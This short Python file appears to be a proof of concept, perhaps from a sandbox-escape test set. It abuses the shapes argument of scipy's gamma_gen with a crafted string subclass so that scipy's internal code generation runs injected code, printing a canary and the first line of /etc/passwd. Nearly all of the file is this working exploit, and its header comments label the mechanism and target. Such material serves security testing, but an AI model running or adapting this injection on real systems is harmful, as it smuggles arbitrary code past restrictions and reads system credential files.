# class: data
# mechanism: reader by path
# how: besides rv_continuous, scipy.stats.distributions has the class of every distribution (gamma_gen ...): shapes is their eighth argument too, and nobody asks for a literal there
# reaches: reads /etc/passwd
from scipy.stats.distributions import gamma_gen

class Names:
    def __init__(self):
        self.n = 0

    def __len__(self):
        return 1

    def __iter__(self):
        self.n += 1
        if self.n == 1:
            return iter(["a"])
        return iter(["a=''', y=print('CANARY', open('/etc/passwd').readline())): pass\n#"])

class Shapes(str):
    def replace(self, a, b):
        return self

    def split(self):
        return Names()

gamma_gen(1, None, None, 1e-14, None, "d", None, Shapes("a"))
